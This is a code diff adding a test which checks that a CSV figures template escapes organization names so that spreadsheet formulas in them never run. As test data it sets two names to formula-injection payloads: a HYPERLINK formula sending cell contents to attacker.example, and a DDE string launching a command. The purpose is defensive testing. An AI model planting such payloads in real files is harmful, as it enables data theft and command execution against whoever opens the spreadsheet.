@@ -850,3 +850,20 @@ def test_no_campaign_cell_runs_as_a_formula_whatever_organizations_are_called(
     names = [c for c in cells if "HYPERLINK" in c or "SUM(" in c]
     assert len(names) == 2
     assert not [c for c in cells if c.startswith(HOSTILE)]
+
+
+def test_no_cell_of_the_figures_template_runs_as_a_formula(client, reviewer, org, other_org):
+    """The figures template lists organizations by the names they gave themselves: a reviewer
+    opening it in a spreadsheet reads those names, never runs them."""
+    org.legal_name = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
+    org.save(update_fields=["legal_name"])
+    other_org.legal_name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    other_org.save(update_fields=["legal_name"])
+    client.force_login(reviewer)
+
+    response = client.get(reverse("violation_figures_template"))
+
+    assert response.status_code == 200
+    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
+    assert len([c for c in cells if "HYPERLINK" in c or "SUM(" in c]) == 2
+    assert not [c for c in cells if c.startswith(HOSTILE)]
